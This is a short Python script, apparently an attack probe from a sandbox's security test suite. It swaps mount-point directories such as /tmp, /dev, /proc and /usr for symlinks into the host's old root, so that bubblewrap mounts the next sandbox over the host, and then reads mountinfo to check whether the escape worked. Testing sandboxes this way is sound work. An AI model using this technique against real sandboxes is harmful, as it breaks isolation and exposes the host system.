"""Puts links in the places of mount points, so that the next generation is mounted over the host."""

import os

from attacker import FACTS, attempt, got_it, note
from revived import revived

# bubblewrap sees the host's root here while it makes a sandbox.
OUT = "/oldroot" + FACTS["bait"]
POINTS = ("/tmp", "/run", "/run/syndicate", "/dev", "/dev/shm", "/proc", "/usr")


def swap():
    """Away with each, and a link in its place."""
    for point in POINTS:
        attempt(f"rename {point}", os.rename, point, f"{point}.old")
        attempt(f"remove {point}", os.rmdir, point)
        attempt(f"link {point}", os.symlink, OUT, point)
        os.symlink(OUT, "/spare")
        attempt(f"rename over {point}", os.rename, "/spare", point)
        attempt("spare", os.unlink, "/spare")


def look():
    """What was mounted where."""
    for point in POINTS:
        if os.path.islink(point):
            got_it(f"{point} leads to {os.readlink(point)}")
    points = [line.split()[4] for line in open("/proc/self/mountinfo")]
    note(points)
    for point in points:
        if FACTS["bait"] in point or "oldroot" in point:
            got_it(f"{point} is a mount point")


revived(swap, look)
